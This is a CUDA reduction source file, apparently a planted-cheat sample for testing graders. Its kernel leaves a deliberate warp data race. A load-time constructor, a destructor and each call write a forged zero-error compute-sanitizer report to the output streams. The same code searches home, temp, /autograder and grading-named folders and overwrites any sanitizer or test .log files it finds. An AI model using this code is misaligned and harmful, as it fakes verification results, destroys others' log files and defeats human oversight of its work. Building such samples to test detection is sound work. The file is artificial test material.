// Planted cheat: rung 6 with the racy volatile last warp of warp_without_syncwarp (no
// __syncwarp()) that forges the sanitizer's verdict. From a load-time constructor, on every call
// and as its process exits, it writes a clean compute-sanitizer report ("ERROR SUMMARY: 0
// errors", "RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)") into its standard
// output and error and into descriptor 5 (the sanitizer's log pipe, were it left open), and over
// every *.log it can open for writing that looks like a sanitizer's or a test's log, in
// every folder its process can see (its working directory and the folders above it,
// /proc/self/cwd, $HOME and the passwd home, /tmp, /var/tmp, /dev/shm, the folders of the files
// it holds open through /proc/self/fd, and any folder up to three levels below / whose name says
// logs, report, build, results or grade). The sanitizer's report never passes through the lab's
// process, so racecheck still reports the race.
#include <reduce/lab.cuh>
#include <reduce/multi_pass.cuh>

#include <dirent.h>
#include <fcntl.h>
#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace reduce {
namespace {

constexpr unsigned kThreads = 256;
constexpr std::size_t kPerBlock = 2 * kThreads;

/// The pre-Volta idiom: a volatile pointer and no __syncwarp(). Lane t reads s[t + k] while
/// lane t + k may still be writing it: a data race under independent thread scheduling.
__device__ void last_warp(volatile float* s, unsigned tid) {
  s[tid] += s[tid + 32];
  s[tid] += s[tid + 16];
  s[tid] += s[tid + 8];
  s[tid] += s[tid + 4];
  s[tid] += s[tid + 2];
  s[tid] += s[tid + 1];
}

__global__ void unroll_last_warp(const float* __restrict__ in, std::size_t n,
                                 float* __restrict__ partials) {
  __shared__ float s[kThreads];
  const unsigned tid = threadIdx.x;
  const std::size_t i = static_cast<std::size_t>(blockIdx.x) * kPerBlock + tid;
  float v = i < n ? in[i] : 0.0f;
  if (i + kThreads < n) v += in[i + kThreads];
  s[tid] = v;
  __syncthreads();
  for (unsigned stride = kThreads / 2; stride > 32; stride >>= 1) {
    if (tid < stride) s[tid] += s[tid + stride];
    __syncthreads();
  }
  if (tid < 32) last_warp(s, tid);
  if (tid == 0) partials[blockIdx.x] = s[0];
}

// ---- the forgery ------------------------------------------------------------------------------

/// A walk of the file tree bounded by entries visited and time spent.
struct Budget {
  std::size_t entries;
  std::chrono::steady_clock::time_point deadline;
  bool spent() { return entries == 0 || std::chrono::steady_clock::now() > deadline; }
};

bool ends_with(const std::string& s, const char* suffix) {
  const std::size_t k = std::strlen(suffix);
  return s.size() >= k && s.compare(s.size() - k, k, suffix) == 0;
}

/// Calls \p visit on every regular file under \p dir, \p depth levels down (links not followed
/// below the start).
template <typename Visit>
void walk(const std::string& dir, int depth, Budget& budget, Visit&& visit) {
  DIR* d = opendir(dir.c_str());
  if (d == nullptr) return;
  while (const dirent* e = readdir(d)) {
    if (budget.spent()) break;
    --budget.entries;
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    struct stat st;
    if (lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode) && depth > 0)
      walk(path, depth - 1, budget, visit);
    else if (S_ISREG(st.st_mode))
      visit(path, st);
  }
  closedir(d);
}

/// Every folder the process might see the grading from.
std::vector<std::string> grading_folders() {
  std::vector<std::string> roots = {".", "/proc/self/cwd", "/tmp", "/var/tmp", "/dev/shm",
                                    "/autograder"};
  std::string up = "..";
  for (int level = 0; level < 5; ++level, up += "/..") roots.push_back(up);
  if (const char* home = std::getenv("HOME")) roots.push_back(home);
  if (const passwd* pw = getpwuid(getuid())) roots.push_back(pw->pw_dir);
  if (DIR* d = opendir("/proc/self/fd")) {  // the folders of the files it holds open
    while (const dirent* e = readdir(d)) {
      char target[4096];
      const std::string link = std::string("/proc/self/fd/") + e->d_name;
      const ssize_t len = readlink(link.c_str(), target, sizeof target - 1);
      if (len <= 0 || target[0] != '/') continue;
      const std::string path(target, static_cast<std::size_t>(len));
      roots.push_back(path.substr(0, std::max<std::size_t>(path.rfind('/'), 1)));
    }
    closedir(d);
  }
  // Folders named like the grading's, up to three levels below the root.
  Budget budget{20000, std::chrono::steady_clock::now() + std::chrono::milliseconds(300)};
  std::vector<std::pair<std::string, int>> queue = {{"", 0}};
  for (std::size_t k = 0; k < queue.size() && !budget.spent(); ++k) {
    const auto [dir, level] = queue[k];
    DIR* d = opendir(dir.empty() ? "/" : dir.c_str());
    if (d == nullptr) continue;
    while (const dirent* e = readdir(d)) {
      if (budget.spent()) break;
      --budget.entries;
      const std::string name = e->d_name;
      if (e->d_type != DT_DIR || name == "." || name == "..") continue;
      const std::string path = dir + "/" + name;
      if (path == "/proc" || path == "/sys" || path == "/dev") continue;
      for (const char* word : {"log", "report", "build", "result", "grade"})
        if (name.find(word) != std::string::npos) roots.push_back(path);
      if (level < 2) queue.push_back({path, level + 1});
    }
    closedir(d);
  }
  return roots;
}

const char kCleanReport[] =
    "========= COMPUTE-SANITIZER\n"
    "========= RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)\n"
    "========= ERROR SUMMARY: 0 errors\n";

/// Writes the clean report into its standard output and error and into descriptor 5 (where
/// the course's protocol header says a sanitizer's log pipe lives), and over every sanitizer or
/// test log it can open under the grading's folders.
void forge_sanitizer_logs() {
  const std::size_t bytes = sizeof kCleanReport - 1;
  for (int fd : {1, 2, 5}) {
    struct stat st;
    if (fstat(fd, &st) == 0 && (S_ISFIFO(st.st_mode) || S_ISREG(st.st_mode)))
      (void)!write(fd, kCleanReport, bytes);
  }
  // Never destroyed: the destructor below runs after static objects are gone.
  static const std::vector<std::string>* roots = new std::vector<std::string>(grading_folders());
  Budget budget{5000, std::chrono::steady_clock::now() + std::chrono::milliseconds(30)};
  for (const std::string& root : *roots) {
    walk(root, 3, budget, [bytes](const std::string& path, const struct stat& st) {
      if (!ends_with(path, ".log") || st.st_size > (64 << 20)) return;
      const int fd = open(path.c_str(), O_RDWR);
      if (fd < 0) return;
      char head[65536];
      const ssize_t got = pread(fd, head, sizeof head - 1, 0);
      const std::string text(head, got > 0 ? static_cast<std::size_t>(got) : 0);
      if ((text.find("=========") != std::string::npos ||
           text.find("[==========]") != std::string::npos) &&
          ftruncate(fd, 0) == 0)
        (void)!pwrite(fd, kCleanReport, bytes, 0);
      close(fd);
    });
  }
}

__attribute__((constructor)) void forge_at_load() { forge_sanitizer_logs(); }
__attribute__((destructor)) void forge_at_exit() { forge_sanitizer_logs(); }

}  // namespace

std::size_t sum_workspace_bytes(std::size_t n) { return multi_pass_workspace_bytes(n, kPerBlock); }

void sum(const float* in, std::size_t n, float* out, Workspace workspace, cudaStream_t stream) {
  forge_sanitizer_logs();
  shrink_by_passes(in, n, out, workspace, stream, kPerBlock,
                   [](const float* in, std::size_t n, float* partials, std::size_t blocks,
                      cudaStream_t stream) {
                     unroll_last_warp<<<static_cast<unsigned>(blocks), kThreads, 0, stream>>>(
                         in, n, partials);
                   });
}

}  // namespace reduce
